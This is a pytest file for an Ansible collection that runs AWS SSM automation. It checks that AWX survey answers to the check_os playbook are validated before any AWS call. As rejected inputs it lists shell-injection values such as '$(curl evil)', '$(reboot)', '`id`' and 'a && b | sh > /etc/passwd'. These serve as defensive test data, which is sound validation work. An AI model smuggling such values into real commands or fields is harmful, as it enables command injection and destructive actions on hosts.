"""Survey and role inputs are checked before any AWS call, by the collection's one set of rules.

The roles hold no copy of a pattern: they call orgops.ssm_automation.check_inputs (module_utils/inputs.py, on the
patterns of validation.py). The check_os playbook, run with only its always-tagged validation (no AWS endpoint at
all), must reject every free-text survey field carrying shell metacharacters, naming the variable, and accept good
values.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from support.ansible_run import run_playbook

from ansible_collections.orgops.ssm_automation.plugins.module_utils import validation

REPO = Path(__file__).resolve().parents[2]
SURVEY = json.loads((REPO / "awx" / "survey.json").read_text())
PLAYBOOK = REPO / "playbooks" / "check_os.yml"
GOOD = {
    "check_os_target_ous": "ou-o2pk-wrkloads,ou-o2pk-security",
    "check_os_regions": ["ap-northeast-1", "eu-west-1"],
    "check_os_include_management_account": "true",
    "check_os_target_tag_key": "ssm-automation",
    "check_os_target_tag_value": "true",
    "check_os_max_failed_percent": 10,
    "check_os_required_steps": ["CheckHostname"],
    "check_os_execution_id": "",
}


@pytest.mark.parametrize(
    ("value", "ok"),
    [
        ("ssm-automation", True),
        ("Env:prod/web=1 +@_.", True),
        ("a;b", False),
        ("$(reboot)", False),
        ("`id`", False),
        ("a|b", False),
        ("a&&b", False),
        ("a>b", False),
        ("x'y", False),
        ('x"y', False),
    ],
)
def test_tag_pattern_admits_aws_tag_characters_only(value, ok):
    assert bool(validation.SAFE_TAG_KEY_RE.match(value)) is ok
    assert bool(validation.SAFE_TAG_VALUE_RE.match(value)) is ok


def run_validation(tmp_path: Path, extra: dict):
    """The check_os playbook with only its always-tagged tasks: validation, no AWS call (no endpoint is set)."""
    vars_file = tmp_path / "extra.json"
    vars_file.write_text(json.dumps(extra))
    env = {
        "AWS_ENDPOINT_URL": "http://127.0.0.1:9",
        "AWS_URL": "http://127.0.0.1:9",
        "ORGOPS_REPORT_DIR": str(tmp_path),
    }
    return run_playbook(PLAYBOOK, env=env, args=["--tags", "always", "-e", f"@{vars_file}"], timeout=120)


def test_good_survey_answers_pass(tmp_path):
    run = run_validation(tmp_path, GOOD)
    assert run.rc == 0, run.stdout + run.stderr
    assert "Invalid input" not in run.stdout


FREE_TEXT = [q["variable"] for q in SURVEY["spec"] if q["type"] in ("text", "textarea")]
NASTY = ["x; reboot", "$(curl evil)", "`id`", "a && b | sh > /etc/passwd"]


@pytest.mark.parametrize(
    ("variable", "nasty"),
    [(v, NASTY[i % len(NASTY)]) for i, v in enumerate(FREE_TEXT)]
    + [(v, NASTY[(i + 1) % len(NASTY)]) for i, v in enumerate(FREE_TEXT)],
)
def test_shell_metacharacters_in_a_text_answer_are_rejected_naming_the_variable(tmp_path, variable, nasty):
    run = run_validation(tmp_path, {**GOOD, variable: nasty})
    assert run.rc != 0, f"{variable}={nasty!r} was accepted:\n{run.stdout}"
    message = next((line for line in run.stdout.splitlines() if "Invalid input" in line), "")
    assert variable in message, f"{variable}={nasty!r}: the message does not name it:\n{run.stdout}"
    assert "nothing was sent to AWS" in message


@pytest.mark.parametrize(
    "answer",
    [
        "ou-o2pk-wrkloads\nou-o2pk-security",
        "ou-o2pk-wrkloads, ou-o2pk-security",
        " ou-o2pk-wrkloads \n\n ou-o2pk-security,",
    ],
)
def test_a_textarea_answer_is_split_on_new_lines_commas_and_spaces(tmp_path, answer):
    """An AWX textarea gives one string; each id in it must pass on its own (a joined string never matches)."""
    run = run_validation(
        tmp_path, {**GOOD, "check_os_target_ous": answer, "check_os_regions": "ap-northeast-1\neu-west-1"}
    )
    assert run.rc == 0, run.stdout[-3000:]
